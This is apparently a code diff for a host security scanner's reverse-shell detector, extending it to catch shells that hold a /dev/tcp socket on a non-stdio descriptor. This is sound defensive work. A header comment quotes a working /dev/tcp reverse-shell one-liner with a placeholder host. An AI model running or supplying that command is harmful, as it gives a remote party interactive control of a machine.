@@ -2,7 +2,10 @@
  * Reverse shells whose stdio is the network socket itself: a shell (or an interpreter running inline code) whose
  * stdin is a TCP/UDP socket and whose stdout or stderr is a socket too. Unix sockets are left out: Node/libuv and
  * other supervisors give their children socketpairs as stdio, which is normal; a reverse shell connects over the
- * network. Shells behind a pty or a pipe relay are found by ./relay.ts.
+ * network. Shells behind a pty or a pipe relay are found by ./relay.ts. A shell (not an interpreter: a `python -c`
+ * that fetches something holds a socket for good reasons) holding a connected inet socket on any other descriptor
+ * is one too (`exec 5<>/dev/tcp/h/p; while read l <&5; do eval "$l" >&5; done`), unless its parent holds the same
+ * socket: a descriptor a daemon leaked into the shells it runs.
  */
 import type { ScanContext } from "../../core/context.ts";
 import type { ProcessInfo } from "../../host/proc_types.ts";
@@ -11,36 +14,10 @@ import { hostPort } from "../../host/net_address.ts";
 import type { InetSocket, InetTable } from "../../host/proc_net.ts";
 import { listedSocketInodes, processInetSockets, socketTables } from "../network/collect.ts";
 import { DescriptorSockets, type ReadSocket, SWEEP_PER_PROCESS } from "./descriptor_sockets.ts";
-import { basename } from "./common.ts";
+import { procSnapshot } from "../proc_snapshot.ts";
+import { shellProgram } from "./shell_program.ts";
 
-const SHELLS = new Set([
-  "sh",
-  "ash",
-  "bash",
-  "rbash",
-  "dash",
-  "zsh",
-  "ksh",
-  "ksh93",
-  "mksh",
-  "pdksh",
-  "yash",
-  "csh",
-  "tcsh",
-  "fish",
-]);
-const INTERPRETER =
-  /^(?:python[\d.]*|perl[\d.]*|ruby[\d.]*|php[\d.]*|lua[\d.]*|node|nodejs|tclsh[\d.]*|gawk|mawk|awk)$/;
-const INLINE_FLAGS = new Set(["-c", "-e", "-r", "-E"]);
-
-/** "shell" or "interpreter" when the process is one that a reverse shell would be, else undefined. */
-export function shellKind(p: ProcessInfo): "shell" | "interpreter" | undefined {
-  const exe = basename(p.exe ?? "");
-  const argv0 = basename((p.cmdline[0] ?? "").replace(/^-/, ""));
-  if (SHELLS.has(exe) || (exe === "busybox" && SHELLS.has(argv0))) return "shell";
-  if (INTERPRETER.test(exe) && p.cmdline.slice(1).some((a) => INLINE_FLAGS.has(a))) return "interpreter";
-  return undefined;
-}
+export { readsCommandsFromStdin, shellKind, shellProgram } from "./shell_program.ts";
 
 /** An inet socket as the findings show it ("127.0.0.1:4444", "[::1]:22"). */
 export interface ShellSocket {
@@ -83,6 +60,7 @@ export function isConnected(s: InetSocket): boolean {
 export class InetIndex {
   #byInode: Map<number, InetSocket> | undefined;
   readonly #own = new Map<number, Map<number, InetSocket>>();
+  #holders: Map<number, number[]> | undefined;
   /** The sockets read through their holders' descriptors in this scan. */
   readonly descriptors: DescriptorSockets;
 
@@ -130,12 +108,14 @@ export class InetIndex {
   }
 
   /**
-   * A connected inet socket `p` holds (lowest inode first), or undefined. On the live host, its sockets that no
-   * table lists are then read through their descriptors, at most SWEEP_PER_PROCESS of them.
+   * A connected inet socket `p` holds (lowest inode first; those `skip` says to leave out left out), or undefined.
+   * On the live host, its sockets that no table lists are then read through their descriptors, at most
+   * SWEEP_PER_PROCESS of them.
    */
-  connected(p: ProcessInfo): ShellSocket | undefined {
+  connected(p: ProcessInfo, skip?: (inode: number) => boolean): ShellSocket | undefined {
     const unread: number[] = [];
     for (const inode of p.socketInodes) {
+      if (skip?.(inode)) continue;
       const s = this.lookup(p, inode);
       if (s && isConnected(s)) return shown(s);
       if (s === undefined) unread.push(inode);
@@ -160,6 +140,22 @@ export class InetIndex {
     return this.descriptors.sweep(p, candidates)
       .filter((s) => this.descriptors.inUnlistedNamespace(s))
       .map((s) => this.#shownRead(s));
+  }
+
+  /** The pids holding socket `inode`, from the scan's snapshot. */
+  holders(inode: number): readonly number[] {
+    if (this.#holders === undefined) {
+      const map = new Map<number, number[]>();
+      for (const q of procSnapshot(this.ctx).processes) {
+        for (const i of q.socketInodes) {
+          const list = map.get(i);
+          if (list) list.push(q.pid);
+          else map.set(i, [q.pid]);
+        }
+      }
+      this.#holders = map;
+    }
+    return this.#holders.get(inode) ?? [];
   }
 
   /** The inet socket behind `inode` as findings show it. */
@@ -187,19 +183,27 @@ export interface ReverseShell {
   kind: "shell" | "interpreter";
   socket: ShellSocket;
   stdio: (string | null)[];
+  /** "stdio": stdin and stdout or stderr are sockets; "descriptor": a shell holds one on another descriptor. */
+  on: "stdio" | "descriptor";
 }
 
 /** The direct reverse-shell evidence for a process (stdio on the socket itself), or undefined. */
 export function reverseShell(index: InetIndex, p: ProcessInfo): ReverseShell | undefined {
-  const kind = shellKind(p);
-  if (kind === undefined) return undefined;
+  const program = shellProgram(p, index.ctx.host);
+  if (program === undefined) return undefined;
+  const { kind } = program;
   const [stdin, stdout, stderr] = p.stdio;
   const inInode = stdin === null || stdin === undefined ? undefined : socketInode(stdin);
-  if (inInode === undefined) return undefined;
   const outSocket = [stdout, stderr].some((s) =>
     s !== null && s !== undefined && socketInode(s) !== undefined
   );
-  if (!outSocket) return undefined;
-  const socket = index.atFd(p, 0, inInode);
-  return socket ? { kind, socket, stdio: p.stdio } : undefined;
+  if (inInode !== undefined && outSocket) {
+    const socket = index.atFd(p, 0, inInode);
+    if (socket) return { kind, socket, stdio: p.stdio, on: "stdio" };
+  }
+  if (kind !== "shell") return undefined;
+  // bash's and ksh's /dev/tcp, zsh's ztcp: a shell that made a connection itself. One its parent holds too was
+  // inherited (a daemon's descriptor without close-on-exec), not made.
+  const socket = index.connected(p, (inode) => index.holders(inode).includes(p.ppid));
+  return socket ? { kind, socket, stdio: p.stdio, on: "descriptor" } : undefined;
 }
